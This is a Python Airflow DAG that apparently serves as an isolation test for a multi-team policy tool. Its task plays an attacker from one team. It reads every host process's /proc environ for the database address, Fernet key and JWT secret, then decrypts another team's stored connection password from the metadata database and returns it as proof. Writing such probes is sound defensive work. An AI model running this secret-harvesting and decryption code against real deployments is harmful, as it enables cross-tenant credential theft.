"""Team A's task looking for the keys to act as team B, as an author would, in every place its process can read:
its own configuration, and the environment of every process of the host (``/proc/<pid>/environ``: Airflow blanks
the metadata DB's address in the task's own environment, not in its parents'). With the DB address and the Fernet
key it reads team B's connection password straight from the metadata DB. Then it runs ``airflow-policies doctor``
on its own process, as a worker of team A.

Every attempt that fails finds nothing: the task itself succeeds and returns what it found (digests only, and
team B's password, which is the proof)."""

from __future__ import annotations

import pendulum
from airflow.sdk import DAG, task

_WANTED = ("AIRFLOW__DATABASE__SQL_ALCHEMY_CONN", "AIRFLOW__CORE__FERNET_KEY", "AIRFLOW__API_AUTH__JWT_SECRET")


@task
def look() -> dict[str, object]:
    import hashlib
    import json
    import os
    import subprocess
    import sys

    from airflow.configuration import conf

    found = {"AIRFLOW__API_AUTH__JWT_SECRET": conf.get("api_auth", "jwt_secret", fallback="")}
    found["AIRFLOW__CORE__FERNET_KEY"] = conf.get("core", "fernet_key", fallback="")
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as readable:
                environ = readable.read()
        except OSError:
            continue
        for entry in environ.split(b"\0"):
            name, _, value = entry.decode(errors="replace").partition("=")
            if name in _WANTED and value and not found.get(name):
                found[name] = value

    password = None
    database, fernet_key = found.get("AIRFLOW__DATABASE__SQL_ALCHEMY_CONN"), found.get("AIRFLOW__CORE__FERNET_KEY")
    if database and fernet_key:
        import sqlalchemy
        from cryptography.fernet import Fernet

        with sqlalchemy.create_engine(database).connect() as connection:
            stored = connection.execute(
                sqlalchemy.text("SELECT password FROM connection WHERE conn_id = 'team_b_warehouse'")
            ).scalar()
        password = Fernet(fernet_key.encode()).decrypt(stored.encode()).decode() if stored else None

    # As the worker would run it: without the placeholder Airflow puts in the task's own environment for the DB
    # address (with it, importing Airflow fails).
    environment = {name: value for name, value in os.environ.items() if not value.startswith("airflow-db-not-")}
    doctor = subprocess.run(
        [sys.executable, "-m", "airflow_policies.cli", "doctor", "--component", "worker", "--team", "team_a",
         "--format", "json"],
        capture_output=True, text=True, check=False, env=environment,
    )  # fmt: skip
    if "{" not in doctor.stdout:
        raise RuntimeError(f"doctor exited {doctor.returncode}: {doctor.stderr[-3000:]}")
    report = json.loads(doctor.stdout[doctor.stdout.index("{") :])
    return {
        "found": {name: hashlib.sha256(value.encode()).hexdigest() for name, value in found.items() if value},
        "team_b_password": password,
        "doctor_exit": doctor.returncode,
        "doctor_checks": sorted({finding["check"] for finding in report["findings"]}),
    }


with DAG("team_a__look_for_keys", schedule="@once", start_date=pendulum.datetime(2026, 1, 1, tz="UTC"), catchup=False):
    look()
